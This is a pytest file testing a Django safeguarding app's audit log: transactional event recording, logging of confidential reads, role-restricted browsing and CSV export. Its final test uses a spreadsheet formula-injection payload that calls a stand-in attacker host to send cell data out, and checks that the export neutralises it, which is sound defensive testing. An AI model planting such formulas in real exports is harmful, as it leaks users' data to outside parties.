"""The audit log: written with the change, browsed and exported by the business unit and chair."""

import csv
import io

import pytest
from django.db import transaction

from safeguarding.accounts.services import agency_create, agency_update
from safeguarding.accounts.tests.factories import AgencyFactory
from safeguarding.core.audit import audit_read, audit_record
from safeguarding.core.models import AuditEvent
from safeguarding.core.roles import Role


@pytest.mark.django_db(transaction=True)
def test_an_event_outside_a_transaction_is_refused():
    with pytest.raises(RuntimeError, match="inside the change's transaction"):
        audit_record(job="test job", event="core.audit_log.archived")
    with transaction.atomic():
        event = audit_record(job="test job", event="core.audit_log.archived")
    assert event.actor_label == "system: test job"


def test_an_event_needs_exactly_one_of_actor_or_job(db, make_user):
    with transaction.atomic(), pytest.raises(ValueError):
        audit_record(event="core.audit_log.archived")
    with transaction.atomic(), pytest.raises(ValueError):
        audit_record(actor=make_user(), job="both", event="core.audit_log.archived")


def test_a_service_writes_before_and_after_in_the_same_transaction(partnership, make_user):
    user = make_user(Role.BUSINESS_UNIT)
    agency = agency_create(
        actor=user,
        partnerships=[partnership],
        name="Old name",
        type="voluntary",
        sector="voluntary",
    )
    agency_update(actor=user, agency=agency, name="New name")
    event = AuditEvent.objects.get(event="accounts.agency.updated")
    assert event.actor == user and event.actor_label == user.email
    assert ("name", "Old name", "New name") in event.changes


def test_a_failed_change_leaves_no_audit_event(partnership, make_user):
    from django.core.exceptions import ValidationError

    user = make_user(Role.BUSINESS_UNIT)
    with pytest.raises(ValidationError):
        agency_create(
            actor=user, partnerships=[], name="Nowhere", type="voluntary", sector="voluntary"
        )
    assert not AuditEvent.objects.filter(event="accounts.agency.created").exists()


def test_reads_of_confidential_records_are_logged(partnership, make_user):
    user = make_user(Role.CHAIR)
    agency = AgencyFactory(partnerships=[partnership])
    audit_read(actor=user, target=agency)
    assert AuditEvent.objects.filter(
        event="core.record.viewed", actor=user, target_id=str(agency.pk)
    ).exists()


@pytest.fixture
def events(partnership, make_user):
    bu = make_user(Role.BUSINESS_UNIT, email="bu@test.example")
    agency_create(
        actor=bu,
        partnerships=[partnership],
        name="Riverside Youth Project",
        type="voluntary",
        sector="voluntary",
    )
    with transaction.atomic():
        audit_record(
            job="reminders", event="governance.action.reminder_overdue", partnerships=[partnership]
        )
    return bu


def test_business_unit_filters_the_log(signed_in, events):
    client = signed_in(Role.BUSINESS_UNIT)
    page = client.get("/audit-log/", {"event": "accounts.agency.created"}).content.decode()
    assert (
        "Riverside Youth Project" in page
        and "governance.action.reminder_overdue" not in page.split("Audit events")[1]
    )
    page = client.get("/audit-log/", {"actor": "system"}).content.decode()
    assert "1 event" in page


def test_a_bad_date_range_is_explained(signed_in, events):
    client = signed_in(Role.CHAIR)
    page = client.get("/audit-log/", {"since": "2026-03-02", "until": "2026-03-01"})
    assert "The ‘To’ date must be the same as or after the ‘From’ date" in page.content.decode()


def test_csv_export_has_every_matching_event(signed_in, events):
    client = signed_in(Role.CHAIR)
    response = client.get("/audit-log/export.csv", {"event": "accounts.agency.created"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["target"] for r in rows] == ["Riverside Youth Project"]
    assert rows[0]["actor"] == "bu@test.example"


def test_others_cannot_read_the_log(signed_in, events):
    for role in (Role.PRACTITIONER, Role.AGENCY_LEAD, Role.REVIEWER, Role.SAFEGUARDING_PARTNER):
        assert signed_in(role).get("/audit-log/").status_code == 403


def test_audit_log_query_count_does_not_grow(signed_in, events, count_queries):
    client = signed_in(Role.BUSINESS_UNIT)
    client.get("/audit-log/")
    few = count_queries(lambda: client.get("/audit-log/"))
    for n in range(40):
        with transaction.atomic():
            audit_record(actor=events, event="core.record.viewed", after={"n": n})
    assert count_queries(lambda: client.get("/audit-log/")) == few
    assert "42 events" in client.get("/audit-log/").content.decode()


def test_csv_export_neutralises_a_formula_in_a_record_name(signed_in, partnership, make_user):
    """A record named like a spreadsheet formula comes out as inert text."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    agency_create(
        actor=make_user(Role.BUSINESS_UNIT),
        partnerships=[partnership],
        name=formula,
        type="voluntary",
        sector="voluntary",
    )
    client = signed_in(Role.CHAIR)
    response = client.get("/audit-log/export.csv", {"event": "accounts.agency.created"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["target"] for r in rows] == ["'" + formula]
